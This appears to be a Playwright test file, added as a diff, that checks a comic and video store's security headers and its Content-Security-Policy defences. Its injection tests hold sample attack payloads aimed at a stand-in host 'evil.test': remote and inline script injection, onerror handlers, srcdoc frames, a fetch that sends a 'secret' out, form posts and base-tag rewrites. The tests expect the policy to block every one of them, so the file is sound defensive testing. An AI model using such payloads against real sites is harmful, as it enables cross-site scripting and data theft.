@@ -1,0 +1,394 @@
+/**
+ * What the servers tell browsers beside the files: a policy that runs the store's own code alone, and headers that keep its
+ * answers for what they are. Every other story fails when a page of it does what its policy forbids (harness/test.ts).
+ */
+import { chromiumHere } from '@manying/build/chromium';
+import { type APIResponse, chromium, type Page } from '@playwright/test';
+import { grant, keptUser, shownCoins } from '../harness/account.ts';
+import { startFilm } from '../harness/film.ts';
+import { mainStore } from '../harness/mainStore.ts';
+import { goToCashier, payReturn } from '../harness/payment.ts';
+import { everythingStands, expectPicture, settled, shown, tab } from '../harness/phone.ts';
+import { serveRemote } from '../harness/remoteServer.ts';
+import { buildsOf, type RegistryDocument } from '../harness/shop.ts';
+import { expect, test } from '../harness/test.ts';
+
+test.describe.configure({ mode: 'parallel' });
+
+/** Addresses of one file of each kind. */
+async function addresses(get: (address: string) => Promise<APIResponse>): Promise<Record<string, string>> {
+  const { origins } = mainStore();
+  const index = await (await get(`${origins.shell}/index`)).text();
+  const script = /"scripts":\["([^"]+)"/.exec(index)?.[1] ?? '';
+  const registry = (await (await get(`${origins.shell}/remotes.json`)).json()) as RegistryDocument;
+  const manifest = registry.remotes.comic?.current.manifest ?? '';
+  return {
+    index: `${origins.shell}/book/1001`,
+    desktop: `${origins.shell}/h5/pc`,
+    inApp: `${origins.shell}/h5/wechat`,
+    worker: `${origins.shell}/sw.js`,
+    script: origins.shell + script,
+    document: `${origins.shell}/site.json`,
+    nothing: `${origins.shell}/js/nothing.js`,
+    manifest,
+    build: new URL(registry.remotes.comic?.current.files?.entry ?? '', manifest).href,
+    api: `${origins.provider}/api/book/home/index`,
+    refusal: `${origins.provider}/api/nonsense`,
+    health: `${origins.provider}/health`,
+    picture: `${origins.provider}/img/cover/1001_180_0.img`,
+    media: `${origins.provider}/media/ads/tea.mp4`,
+    report: `${origins.provider}/h5/report?vueReturnUrl=${encodeURIComponent(origins.shell)}`,
+  };
+}
+
+type Kind = keyof Awaited<ReturnType<typeof addresses>>;
+
+const NONE = "default-src 'none'";
+const ALL: readonly Kind[] = [
+  ...['index', 'desktop', 'inApp', 'worker', 'script', 'document', 'nothing', 'manifest', 'build'],
+  ...['api', 'refusal', 'health', 'picture', 'media', 'report'],
+];
+const PAGES: readonly Kind[] = ['index', 'desktop', 'inApp', 'report'];
+const others = (...kinds: readonly Kind[]) => ALL.filter((kind) => !kinds.includes(kind));
+
+/** Header, what must stand in it, and where; `null` stands for no such header. */
+const HEADERS: readonly (readonly [string, string | RegExp | null, readonly Kind[]])[] = [
+  ['X-Content-Type-Options', 'nosniff', ALL],
+  ['Content-Security-Policy', NONE, ALL],
+  ['Content-Security-Policy', /script-src 'self' http[^;]* 'sha256-[^;]*;/, ['index']],
+  ['Content-Security-Policy', "frame-ancestors 'self'", ['index', 'report']],
+  ['Content-Security-Policy', "frame-ancestors 'none'", others('index', 'report')],
+  ['Content-Security-Policy', "require-trusted-types-for 'script'", PAGES],
+  ['Content-Security-Policy', /^(?!.*unsafe-eval)(?!.*script-src[^;]*unsafe-inline)/, ALL],
+  ['Content-Security-Policy', /^(?!.*upgrade-insecure-requests)/, ALL],
+  ['Referrer-Policy', 'strict-origin-when-cross-origin', ['index', 'desktop', 'inApp', 'script', 'build']],
+  ['Referrer-Policy', 'no-referrer', ['api', 'picture', 'media', 'report']],
+  ['Permissions-Policy', /camera=\(\).*geolocation=\(\).*unload=\(\)/, PAGES],
+  ['Permissions-Policy', /autoplay=\(self\).*fullscreen=\(self\)/, ['index']],
+  ['Permissions-Policy', null, others(...PAGES)],
+  ['Cross-Origin-Opener-Policy', /^same-origin/, PAGES],
+  ['Cross-Origin-Resource-Policy', 'cross-origin', ['build', 'manifest', 'picture', 'media']],
+  ['Cross-Origin-Resource-Policy', 'same-origin', others('build', 'manifest', 'picture', 'media')],
+  ['Access-Control-Allow-Origin', '*', ['build', 'manifest', 'picture', 'media']],
+  ['Strict-Transport-Security', null, ALL],
+  ['Cache-Control', 'no-cache', ['index']],
+  ['ETag', /^".+"$/, ['index']],
+];
+
+for (const [header, wanted, kinds] of HEADERS) {
+  test(`${header}: ${wanted} for ${kinds.join(', ')}`, async ({ request }) => {
+    const get = (address: string) => request.get(address);
+    const all = await addresses(get);
+    for (const kind of kinds) {
+      const value = (await get(all[kind] ?? '')).headers()[header.toLowerCase()];
+      if (wanted === null) expect(value, kind).toBeUndefined();
+      else if (typeof wanted === 'string') expect(value, kind).toContain(wanted);
+      else expect(value, kind).toMatch(wanted);
+    }
+  });
+}
+
+test('who has the page is told so, and gets it anew when it has changed', async ({ request, shop }) => {
+  const first = await request.get(`${shop.origin}/home`);
+  const etag = first.headers().etag ?? '';
+  const again = await request.get(`${shop.origin}/home`, { headers: { 'If-None-Match': etag } });
+  expect(again.status()).toBe(304);
+  expect(again.headers()['content-security-policy']).toBe(first.headers()['content-security-policy']);
+  shop.planPage('comic', '/shelf', '别的书架');
+  const changed = await request.get(`${shop.origin}/home`, { headers: { 'If-None-Match': etag } });
+  expect(changed.status()).toBe(200);
+});
+
+/** What a page has tried that its policy forbids: directive and address. */
+async function violations(page: Page): Promise<() => Promise<string[]>> {
+  await page.addInitScript(() => {
+    const seen: string[] = [];
+    Object.assign(window, { violations: seen });
+    document.addEventListener('securitypolicyviolation', (event) => {
+      seen.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
+    });
+  });
+  return () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+}
+
+test('a walk through the store meets no forbidden thing', async ({ page }) => {
+  test.setTimeout(120_000);
+  const tried = await violations(page);
+  await page.goto('/index');
+  await everythingStands(page);
+  await page.goto('/book/1026/catalog');
+  await shown(page).getByRole('button', { name: '离线保存' }).tap();
+  await shown(page)
+    .getByRole('button', { name: /^保存 第2话/ })
+    .tap();
+  await expect(shown(page).getByText('已保存').first()).toBeVisible({ timeout: 20_000 });
+  expect(await tried()).toEqual([]);
+  await page.goto('/book/read/1001/1');
+  await expectPicture(page.getByRole('img', { name: '第 1 页', exact: true }));
+  expect(await tried()).toEqual([]);
+  await page.goto('/vod/detail?vodId=2002');
+  await startFilm(page);
+  await expect(shown(page).locator('.xgplayer')).toBeVisible();
+  expect(await tried()).toEqual([]);
+  await page.goto('/user');
+  await expect(shown(page).getByRole('region', { name: '账号和密码' })).toBeVisible();
+  await tab(page, '看漫画').tap();
+  await settled(page);
+  expect(await tried()).toEqual([]);
+  await page.goto('/purchase');
+  await goToCashier(page, /1000.*无赠送/);
+  expect(await tried()).toEqual([]);
+});
+
+test.describe('on a desktop', () => {
+  test.use({ userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/140.0.0.0', isMobile: false });
+
+  test('the page with the QR code frames the store, and no other site frames either', async ({
+    page,
+    store,
+    log,
+  }) => {
+    const tried = await violations(page);
+    await page.goto('/h5/pc?to=%2Findex');
+    await expect(page.getByRole('img', { name: /二维码/ })).toBeVisible();
+    await expect(page.frameLocator('#preview').getByRole('heading', { name: '编辑推荐' })).toBeVisible();
+    expect(await tried()).toEqual([]);
+
+    log.expectBlocked();
+    await page.goto(`${store.origins.provider}/health`);
+    for (const address of [`${store.origins.shell}/index`, `${store.origins.shell}/h5/pc`]) {
+      await page.route('https://evil.test/', (route) =>
+        route.fulfill({ contentType: 'text/html', body: `<iframe src="${address}"></iframe>` }),
+      );
+      const refused = page.waitForEvent('console', (message) => /frame-ancestors/.test(message.text()));
+      await page.goto('https://evil.test/');
+      await refused;
+      await page.unroute('https://evil.test/');
+    }
+  });
+});
+
+/** What hostile code would leave behind. */
+const ran = (page: Page) => page.evaluate(() => (window as unknown as { hostile?: string }).hostile);
+
+test('an injected script does not run, whichever way it came into the page', async ({ page, log }) => {
+  log.expectBlocked();
+  const off = 'https://evil.test/steal.js';
+  await page.route(off, (route) =>
+    route.fulfill({ contentType: 'text/javascript', body: 'window.hostile = "off the list"' }),
+  );
+  await page.route('**/index', async (route) => {
+    const answer = await route.fetch();
+    const html = (await answer.text()).replace(
+      '<div id="root">',
+      `<script>window.hostile = "inline"</script><script src="${off}"></script>` +
+        '<img src="/x" onerror="window.hostile = 1"><div id="root">',
+    );
+    await route.fulfill({ response: answer, body: html });
+  });
+  const tried = await violations(page);
+  await page.goto('/index');
+  await expect(page.getByRole('heading', { name: '编辑推荐' })).toBeVisible();
+  await expect.poll(async () => (await tried()).length).toBeGreaterThanOrEqual(3);
+  expect(await tried()).toEqual(
+    expect.arrayContaining([
+      expect.stringMatching(/^script-src-elem inline/),
+      expect.stringMatching(/^script-src-elem https:\/\/evil\.test/),
+      expect.stringMatching(/^script-src-attr inline/),
+    ]),
+  );
+  expect(await ran(page)).toBeUndefined();
+});
+
+const ATTEMPTS: readonly (readonly [name: string, attempt: () => void])[] = [
+  [
+    'a script element of text',
+    () => {
+      const script = document.createElement('script');
+      script.text = 'window.hostile = 1';
+      document.head.append(script);
+    },
+  ],
+  [
+    'a script from elsewhere',
+    () => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.test/steal.js';
+      document.head.append(script);
+    },
+  ],
+  [
+    'a script of data',
+    () => {
+      const script = document.createElement('script');
+      script.src = 'data:text/javascript,window.hostile=1';
+      document.head.append(script);
+    },
+  ],
+  [
+    'markup with a handler',
+    () => {
+      const place = document.createElement('div');
+      document.body.append(place);
+      place.innerHTML = '<img src=x onerror="window.hostile = 1">';
+    },
+  ],
+  [
+    'a frame of markup',
+    () => document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>top.hostile=1</script>">'),
+  ],
+  [
+    'a frame from elsewhere',
+    () => {
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.test/';
+      document.body.append(frame);
+    },
+  ],
+  [
+    'a timer of text',
+    () => {
+      setTimeout('window.hostile = 1' as unknown as () => void);
+    },
+  ],
+  [
+    'a worker of a blob',
+    () => {
+      new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
+    },
+  ],
+  [
+    'a policy of its own',
+    () => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      trustedTypes.createPolicy('mine', {});
+    },
+  ],
+  [
+    'a call to elsewhere',
+    () => {
+      void fetch('https://evil.test/?secret').catch(() => undefined);
+    },
+  ],
+  [
+    'a form to elsewhere',
+    () => {
+      const form = document.createElement('form');
+      form.action = 'https://evil.test/';
+      form.method = 'post';
+      document.body.append(form);
+      form.submit();
+    },
+  ],
+  [
+    'another base',
+    () => {
+      const base = document.createElement('base');
+      base.href = 'https://evil.test/';
+      document.head.append(base);
+    },
+  ],
+];
+
+test('code that has got into the page gets no further', async ({ page, log }) => {
+  log.expectBlocked();
+  log.expectThrown(/./);
+  const tried = await violations(page);
+  await page.route('https://evil.test/**', (route) => route.fulfill({ body: 'window.hostile = 1' }));
+  await page.goto('/index');
+  await everythingStands(page);
+  for (const [name, attempt] of ATTEMPTS) {
+    const before = (await tried()).length;
+    // As an event does it: an error of one attempt is no error of the story.
+    await page.evaluate(`setTimeout(${attempt})`);
+    const textOnly = name === 'markup with a handler' || name === 'a frame of markup';
+    if (textOnly) await expect(page.getByText(/onerror|srcdoc/).last()).toBeAttached();
+    else await expect.poll(async () => (await tried()).length, name).toBeGreaterThan(before);
+  }
+  expect(await ran(page)).toBeUndefined();
+  expect(new URL(page.url()).pathname).toBe('/index');
+  expect(log.requests.filter((request) => request.url().startsWith('https://evil.test'))).toEqual([]);
+});
+
+test('a build from an origin that an open page cannot know has the page loaded anew', async ({
+  page,
+  shop,
+  store,
+  log,
+}) => {
+  log.expectBlocked();
+  const site = JSON.parse(shop.readDocument('site.json')) as Record<string, unknown>;
+  await page.goto(`${shop.origin}/index`);
+  await everythingStands(page);
+  await page.evaluate(() => Object.assign(window, { opened: 'before' }));
+  const other = await serveRemote(buildsOf('video'));
+  try {
+    shop.editRegistry(({ remotes }) => {
+      if (!remotes.video) throw new Error('remotes.json has no video');
+      const { current } = remotes.video;
+      current.manifest = other.origin + new URL(current.manifest).pathname;
+    });
+    if (Array.isArray(site.buildOrigins)) {
+      const buildOrigins = [...site.buildOrigins, other.origin];
+      shop.writeDocument('site.json', JSON.stringify({ ...site, buildOrigins }));
+    }
+    // The registry in the page is the old one, whose build is gone.
+    await page.route(`${store.origins.video}/**`, (route) => route.abort());
+    await tab(page, '看视频').tap();
+    await expect(page.getByRole('region', { name: '每日推荐' })).toBeVisible({ timeout: 30_000 });
+    expect(await page.evaluate(() => (window as unknown as { opened?: string }).opened)).toBeUndefined();
+    await expect(page).toHaveURL(/\/vod$/);
+  } finally {
+    await other.stop();
+  }
+});
+
+test('nothing keeps a browser from bringing the store back whole after the cashier', async ({ store }) => {
+  // Playwright switches that cache off for its browsers.
+  const browser = await chromium.launch({
+    ...chromiumHere(),
+    args: ['--no-sandbox'],
+    ignoreDefaultArgs: ['--disable-back-forward-cache'],
+  });
+  try {
+    const context = await browser.newContext({
+      baseURL: store.origins.shell,
+      hasTouch: true,
+      isMobile: true,
+      viewport: { width: 390, height: 844 },
+      userAgent:
+        'Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36',
+    });
+    const page = await context.newPage();
+    const session = await context.newCDPSession(page);
+    await session.send('Page.enable');
+    const reasons: string[] = [];
+    session.on('Page.backForwardCacheNotUsed', ({ notRestoredExplanations }) => {
+      reasons.push(...notRestoredExplanations.map(({ reason }) => reason));
+    });
+    await page.goto('/purchase');
+    await everythingStands(page);
+    await page.evaluate(() => Object.assign(window, { kept: true }));
+    await goToCashier(page, /1000.*无赠送/);
+    await page.goBack();
+    await expect(page.getByRole('heading', { name: '购买金币' })).toBeVisible();
+    const kept = await page.evaluate(() => 'kept' in window);
+    // Headless Chromium has no such cache; it tells what else would have kept the page out of it.
+    if (!kept) expect(reasons).toEqual(['BackForwardCacheDisabledForDelegate']);
+  } finally {
+    await browser.close();
+  }
+});
+
+test('a page that comes back shows what the payment has changed', async ({ page, store, request }) => {
+  await page.goto('/user');
+  await expect(shownCoins(page)).toHaveText('0');
+  await everythingStands(page);
+  const { account } = await keptUser(page);
+  await grant(request, store.origins.provider, account, { coins: 1000 });
+  await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true })));
+  await expect(shownCoins(page)).toHaveText('1000');
+  await expect(payReturn(page)).toHaveCount(0);
+});
